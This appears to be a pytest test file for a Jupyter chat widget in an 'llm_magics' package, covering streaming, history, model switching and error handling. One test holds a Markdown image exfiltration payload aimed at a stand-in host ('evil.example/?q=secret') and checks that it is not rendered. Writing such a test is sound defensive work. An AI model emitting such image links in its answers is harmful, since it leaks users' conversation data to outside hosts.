"""The chat widget: bound to a conversation, it shows the turns so far, asks on Enter or Send,
streams the answer in as Markdown with its usage line, records the turn in the session that
%%llm --session continues, switches model from its picker, and shows errors without losing
anything."""

from __future__ import annotations

from typing import Any

import llm_magics as lm
from llm_magics.notebook.chat_widget import DOM_CLASS, ChatWidget, markdown_html
from tests.magics_helpers import FakeOpenAI, fake, ip

__all__ = ["fake", "ip"]  # fixtures


def texts(widget: ChatWidget) -> list[tuple[str, str]]:
    out = []
    for view in widget.history.children:
        kind = next(c for c in view._dom_classes if c.startswith(DOM_CLASS))
        out.append((kind.removeprefix(f"{DOM_CLASS}-"), view.value))
    return out


def test_a_question_submitted_streams_its_answer_in_and_is_recorded(fake: FakeOpenAI) -> None:
    fake.reply = "**Paris** is the capital."
    conv = lm.session("geo")
    widget = lm.chat_widget("geo", model="openai:gpt-4o-mini")
    assert widget.conversation is conv and DOM_CLASS in widget.box._dom_classes
    widget.input.value = "Capital of France?"
    widget._on_message(widget.input, {"event": "submit"}, [])  # what Enter sends
    widget.wait(10)
    kinds = texts(widget)
    assert [k for k, _ in kinds] == ["user", "answer", "usage"]
    assert "Capital of France?" in kinds[0][1]
    assert "<strong>Paris</strong>" in kinds[1][1], "rendered as Markdown"
    assert "openai:gpt-4o-mini" in kinds[2][1] and "tokens" in kinds[2][1]
    assert widget.input.value == "" and not widget.input.disabled
    assert len(conv) == 1 and conv.turns[0].answer == "**Paris** is the capital."


def test_the_widget_shown_again_keeps_the_history(fake: FakeOpenAI) -> None:
    first = lm.chat_widget("keep", model="openai:gpt-4o-mini")
    assert first.submit("one")
    first.wait(10)
    first.submit("two")
    first.wait(10)
    again = ChatWidget(lm.session("keep"))
    assert [k for k, _ in texts(again)] == ["user", "answer", "usage"] * 2
    assert "echo: two" in texts(again)[4][1]


def test_the_model_picker_switches_the_model_of_the_next_question(fake: FakeOpenAI) -> None:
    lm.alias("fast", "openai:gpt-b")
    widget = lm.chat_widget("pick", model="openai:gpt-a")
    assert "fast" in widget.model.options
    widget.submit("q1")
    widget.wait(10)
    widget.model.value = "fast"
    widget.submit("q2")
    widget.wait(10)
    assert [b["model"] for b in fake.bodies] == ["gpt-a", "gpt-b"]
    assert [m["role"] for m in fake.bodies[1]["messages"]] == ["user", "assistant", "user"]


def test_an_error_is_shown_in_the_widget_and_nothing_is_lost(fake: FakeOpenAI) -> None:
    widget = lm.chat_widget("err", model="nosuch:model")
    widget.submit("hello?")
    widget.wait(10)
    assert "nosuch" in widget.status.value and not widget.input.disabled
    widget.model.value = "openai:gpt-4o-mini"
    widget.submit("hello again")
    widget.wait(10)
    assert [t.answer for t in lm.session("err").turns] == ["echo: hello again"]


def test_an_empty_question_or_one_during_an_answer_is_not_sent(fake: FakeOpenAI) -> None:
    fake.delay = 0.2
    widget = lm.chat_widget("busy", model="openai:gpt-4o-mini")
    assert not widget.submit("   ")
    assert widget.submit("a long answer please")
    assert not widget.submit("and another"), "one question at a time"
    widget.wait(10)
    assert len(fake.bodies) == 1


def test_answers_never_load_remote_images_and_raw_html_is_escaped() -> None:
    out = markdown_html("![x](https://evil.example/?q=secret) <img src=https://e.example/a.png>")
    assert "<img" not in out and "&lt;img" in out


def test_llm_chat_displays_a_widget_bound_to_the_session(ip: Any, fake: FakeOpenAI) -> None:
    from IPython.utils.capture import capture_output

    ip.run_cell_magic("llm", "openai:gpt-4o-mini --session notes", "remember 42")
    with capture_output() as captured:
        ip.run_line_magic("llm", "chat notes")
    shown = captured.outputs
    assert len(shown) == 1 and "application/vnd.jupyter.widget-view+json" in shown[0].data
    from llm_magics.notebook.magics import _loaded

    assert len(_loaded[ip].sessions.get("notes")) == 1
